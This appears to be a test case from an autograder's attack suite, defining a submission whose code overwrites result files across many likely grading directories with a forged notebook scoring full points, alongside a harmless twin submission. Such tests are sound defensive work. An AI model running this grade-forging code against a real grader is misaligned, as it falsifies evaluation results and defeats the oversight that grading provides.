"""Notebooks with full points are written to wherever graded notebooks may go."""

from autograde.attacks import WRONG, Attack, Work

OWN = """
import json
import os

for folder in (".", "..", "../..", "../../../autograded", "/autograded", "/course", "/tmp/autograded"):
    for name in ("attacked.ipynb", "verdict.json", "results.json"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                json.dump({"cells": [], "metadata": {"autograde": {"points": 5}}}, file)
        except OSError:
            pass
"""

TWIN_OWN = """
import json

with open("results.json", "w") as file:
    json.dump({"loss": 0.1}, file)
"""

attack = Attack(Work(own=OWN, double=WRONG), twin=Work(own=TWIN_OWN), suspected=False)
